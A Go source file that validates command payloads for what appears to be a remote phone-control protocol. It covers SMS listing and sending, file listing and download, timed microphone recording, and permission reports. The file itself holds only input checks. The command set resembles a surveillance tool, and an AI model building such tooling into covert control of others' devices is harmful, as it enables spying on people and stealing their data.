package protocol

import (
	"errors"
	"fmt"
)

// ValidationError describes a malformed command payload. It is returned
// before any side effect takes place.
type ValidationError struct {
	Kind   Kind
	Reason string
}

func (e *ValidationError) Error() string {
	return fmt.Sprintf("invalid %s command: %s", e.Kind, e.Reason)
}

// ErrUnknownKind is returned when a command names a kind outside the
// vocabulary.
var ErrUnknownKind = errors.New("unknown command kind")

// CommandSchema declares the payload shape of one command kind: fields that
// must always be present, and optionally an action table mapping each legal
// value of the "action" field to the extra fields that action requires.
type CommandSchema struct {
	Required []string
	Actions  map[string][]string
}

// commandSchemas is the per-kind payload contract the dispatcher validates
// against. Kinds absent from the table accept any payload.
var commandSchemas = map[Kind]CommandSchema{
	KindSMS: {
		Actions: map[string][]string{
			"ls":      nil,
			"sendSMS": {"to", "sms"},
		},
	},
	KindFiles: {
		Actions: map[string][]string{
			"ls": {"path"},
			"dl": {"path"},
		},
	},
	KindMic: {
		Required: []string{"sec"},
	},
	KindGotPermission: {
		Required: []string{"permission"},
	},
}

// ValidateCommand checks (kind, payload) against the per-kind schema.
func ValidateCommand(kind Kind, payload Payload) error {
	if !Known(kind) {
		return fmt.Errorf("%w: %s", ErrUnknownKind, kind)
	}

	schema, ok := commandSchemas[kind]
	if !ok {
		return nil
	}

	for _, field := range schema.Required {
		if _, present := payload[field]; !present {
			return &ValidationError{Kind: kind, Reason: "missing `" + field + "` parameter"}
		}
	}

	if schema.Actions != nil {
		raw, present := payload["action"]
		if !present {
			return &ValidationError{Kind: kind, Reason: "missing `action` parameter"}
		}
		action, ok := raw.(string)
		if !ok {
			return &ValidationError{Kind: kind, Reason: "`action` parameter must be a string"}
		}
		extra, legal := schema.Actions[action]
		if !legal {
			return &ValidationError{Kind: kind, Reason: "unsupported action `" + action + "`"}
		}
		for _, field := range extra {
			if _, present := payload[field]; !present {
				return &ValidationError{Kind: kind, Reason: "missing `" + field + "` parameter"}
			}
		}
	}

	return nil
}
